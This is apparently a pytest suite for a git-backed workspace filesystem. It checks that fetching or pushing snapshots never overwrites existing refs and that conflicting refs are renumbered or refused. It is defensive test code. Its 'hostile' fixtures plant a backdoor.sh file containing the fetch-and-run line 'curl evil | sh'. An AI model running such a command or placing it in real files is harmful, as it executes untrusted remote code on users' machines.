"""Moving snapshots between repositories never replaces what a repository keeps.

A remote is someone else's: its ``snapshots/<n>``, ``meta/<n>`` and
``tags/<tag>`` may name anything. ``fetch`` (and ``push``, towards the remote)
takes a ref only under a name the receiving side does not use: a snapshot whose
number is taken gets the next free number, a tag or other ref whose name is
taken stays as the receiving side has it and is reported.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pygit2
import pytest

from workspacefs import BackendUnavailableError, InMemoryFilesystem
from workspacefs import git as wgit

GIT_ENV = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
WS = "shared-ws"
BASE = f"refs/workspacefs/{WS}"


def refs(repo: Path) -> dict[str, str]:
    repository = pygit2.Repository(str(repo))
    return {name: str(repository.references[name].target) for name in repository.references}


def workspace_with(files: dict[str, str], tag: str | None, repo: Path) -> InMemoryFilesystem:
    fs = InMemoryFilesystem(workspace_id=WS)
    for path, text in files.items():
        fs.write(path, text)
    wgit.persist(fs, fs.snapshot(tag=tag), repo)
    return fs


@pytest.fixture
def genuine(tmp_path: Path) -> Path:
    """A repository holding snapshot 1 of ``WS``, tagged ``v1``: ``app.py``."""
    repo = tmp_path / "local.git"
    workspace_with({"app.py": "print('genuine')\n"}, "v1", repo)
    return repo


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A remote whose ``snapshots/1``, ``meta/1`` and ``tags/v1`` of ``WS`` hold a backdoor."""
    repo = tmp_path / "remote.git"
    workspace_with({"app.py": "print('genuine')\n", "backdoor.sh": "curl evil | sh\n"}, "v1", repo)
    return repo


def test_fetch_keeps_every_ref_it_holds_and_renumbers_the_remotes(
    genuine: Path, hostile: Path
) -> None:
    kept = refs(genuine)
    theirs = refs(hostile)
    outside = pygit2.Repository(str(hostile))
    backdoor = outside.references[f"{BASE}/snapshots/1"].target
    outside.references.create("refs/tags/v1", backdoor)  # what ``load(repo, "v1")`` reads first
    outside.references.create("refs/heads/main", backdoor)
    result = wgit.fetch(genuine, f"file://{hostile}", workspace=WS)
    after = refs(genuine)
    assert {name: after[name] for name in kept} == kept  # nothing kept moved
    assert all(name.startswith(f"{BASE}/") for name in after)
    loaded = wgit.load(genuine, "v1", workspace=WS)
    assert loaded.read("app.py").content == "print('genuine')\n"
    assert not loaded.exists("backdoor.sh")
    # The remote's snapshot 1 is here, as snapshot 2, with its metadata.
    assert after[f"{BASE}/snapshots/2"] == theirs[f"{BASE}/snapshots/1"]
    assert after[f"{BASE}/meta/2"] == theirs[f"{BASE}/meta/1"]
    assert wgit.load(genuine, "2", workspace=WS).exists("backdoor.sh")
    assert [(u.source, u.name) for u in result.written] == [
        (f"{BASE}/meta/1", f"{BASE}/meta/2"),
        (f"{BASE}/snapshots/1", f"{BASE}/snapshots/2"),
    ]
    assert [(r.name, r.commit) for r in result.refused] == [
        (f"{BASE}/tags/v1", theirs[f"{BASE}/tags/v1"])
    ]
    assert "kept" in result.refused[0].reason
    assert "snapshots/2" in result.refused[0].reason
    # Fetching again takes nothing more: the remote's snapshot is already here.
    again = wgit.fetch(genuine, f"file://{hostile}", workspace=WS)
    assert again.written == ()
    assert refs(genuine) == after
    git = ["git", f"--git-dir={genuine}"]
    subprocess.run([*git, "fsck", "--strict"], check=True, env=GIT_ENV, capture_output=True)


def test_a_fast_forward_of_a_kept_ref_is_refused_too(genuine: Path, tmp_path: Path) -> None:
    """The remote moved ``snapshots/1`` and ``tags/v1`` to a child of the genuine snapshot."""
    remote = tmp_path / "remote.git"
    wgit.fetch(remote, f"file://{genuine}", workspace=WS)
    child = wgit.load(remote, "v1", workspace=WS)
    child.write("backdoor.sh", "curl evil | sh\n")
    wgit.persist(child, child.snapshot(), remote)
    references = pygit2.Repository(str(remote)).references
    for kind in ("snapshots", "meta"):
        references.create(f"{BASE}/{kind}/1", references[f"{BASE}/{kind}/2"].target, force=True)
    moved = references[f"{BASE}/snapshots/2"].target
    references.create(f"{BASE}/tags/v1", moved, force=True)
    kept = refs(genuine)
    result = wgit.fetch(genuine, f"file://{remote}", workspace=WS)
    assert {name: refs(genuine)[name] for name in kept} == kept
    assert not wgit.load(genuine, "v1", workspace=WS).exists("backdoor.sh")
    # The child is taken once, under a new number.
    assert refs(genuine)[f"{BASE}/snapshots/2"] == str(moved)
    assert [u.name for u in result.written] == [f"{BASE}/meta/2", f"{BASE}/snapshots/2"]


def test_new_snapshots_and_tags_are_taken_as_they_are(genuine: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.git"
    result = wgit.fetch(other, f"file://{genuine}", workspace=WS)
    assert refs(other) == refs(genuine)
    assert {u.name for u in result.written} == set(refs(genuine))
    assert result.refused == ()
    assert wgit.load(other, "v1", workspace=WS).read("app.py").content == "print('genuine')\n"


def test_what_is_not_a_whole_snapshot_is_refused(genuine: Path, tmp_path: Path) -> None:
    remote = tmp_path / "remote.git"
    workspace_with({"x": "y"}, None, remote)
    repository = pygit2.Repository(str(remote))
    signature = pygit2.Signature("x", "x@example.com")
    tree = repository.TreeBuilder().write()
    plain = repository.create_commit(None, signature, signature, "not a snapshot", tree, [])
    repository.references.create(f"{BASE}/snapshots/7", tree)
    repository.references.create(f"{BASE}/tags/loose", plain)
    repository.references.delete(f"{BASE}/meta/1")  # snapshot 1 without its metadata
    result = wgit.fetch(genuine, f"file://{remote}", workspace=WS)
    assert result.written == ()
    reasons = {r.name: r.reason for r in result.refused}
    assert set(reasons) == {f"{BASE}/snapshots/1", f"{BASE}/snapshots/7", f"{BASE}/tags/loose"}
    assert "metadata" in reasons[f"{BASE}/snapshots/1"]
    assert "is not a commit" in reasons[f"{BASE}/snapshots/7"]
    assert "no snapshot" in reasons[f"{BASE}/tags/loose"]


def test_push_never_replaces_the_remotes_refs(genuine: Path, hostile: Path) -> None:
    theirs = refs(hostile)
    ours = refs(genuine)
    result = wgit.push(genuine, f"file://{hostile}", workspace=WS)
    after = refs(hostile)
    assert {name: after[name] for name in theirs} == theirs
    assert after[f"{BASE}/snapshots/2"] == ours[f"{BASE}/snapshots/1"]
    assert after[f"{BASE}/meta/2"] == ours[f"{BASE}/meta/1"]
    assert [r.name for r in result.refused] == [f"{BASE}/tags/v1"]
    assert wgit.push(genuine, f"file://{hostile}", workspace=WS).written == ()


def test_an_unreachable_remote_is_reported(genuine: Path, tmp_path: Path) -> None:
    kept = refs(genuine)
    with pytest.raises(BackendUnavailableError, match="fetch from"):
        wgit.fetch(genuine, f"file://{tmp_path / 'missing.git'}", workspace=WS)
    assert refs(genuine) == kept
